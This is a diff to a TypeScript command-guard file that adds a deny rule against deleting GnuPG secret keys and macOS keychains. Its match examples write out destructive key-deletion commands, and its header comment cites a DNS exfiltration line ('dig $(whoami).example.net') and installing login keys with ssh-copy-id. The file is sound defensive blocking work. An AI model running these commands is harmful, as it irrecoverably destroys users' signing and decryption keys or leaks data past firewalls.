@@ -1,10 +1,37 @@
 /**
  * Two quiet ways out (issue 12): a public key installed where it lets someone log in
  * (`ssh-copy-id`), and the output of a command sent inside a DNS name (`dig $(whoami).example.net`),
- * which crosses firewalls that stop everything else.
+ * which crosses firewalls that stop everything else. And one quiet way to lose: private keys deleted
+ * from the GnuPG keyring or the macOS keychain, which no backup in the workspace brings back.
  */
 
 import {commandRule, type CommandRule} from '../rules.js'
+
+export const deletePrivateKeys = commandRule({
+  id: 'system.delete-private-keys',
+  pack: 'system',
+  decision: 'deny',
+  reason: 'deletes private keys or a keychain (signing and decryption keys are lost for good)',
+  programs: ['gpg', 'gpg2', 'security'],
+  examples: {
+    match: [
+      'gpg --batch --yes --delete-secret-keys ABCD1234',
+      'gpg --delete-secret-and-public-keys --yes me@example.com',
+      'security delete-keychain ~/Library/Keychains/login.keychain-db',
+      'security delete-identity -c "Developer ID"',
+    ],
+    not_match: ['gpg --list-secret-keys', 'gpg --delete-keys old@example.com', 'security find-identity -v'],
+  },
+  check(cmd) {
+    if (cmd.name === 'security') {
+      const verb = cmd.argv[0] ?? ''
+      return /^delete-(?:keychain|identity|certificate)$/.test(verb) ? `security ${verb}` : null
+    }
+
+    const opt = cmd.argv.find((a) => /^--delete-secret(?:-and-public)?-keys?$/.test(a))
+    return opt === undefined ? null : `${cmd.name} ${opt}`
+  },
+})
 
 export const sshCopyId = commandRule({
   id: 'system.install-login-key',
@@ -32,4 +59,4 @@ export const dnsExfiltration = commandRule({
   },
 })
 
-export const keysAndDnsRules: readonly CommandRule[] = [sshCopyId, dnsExfiltration]
+export const keysAndDnsRules: readonly CommandRule[] = [sshCopyId, dnsExfiltration, deletePrivateKeys]
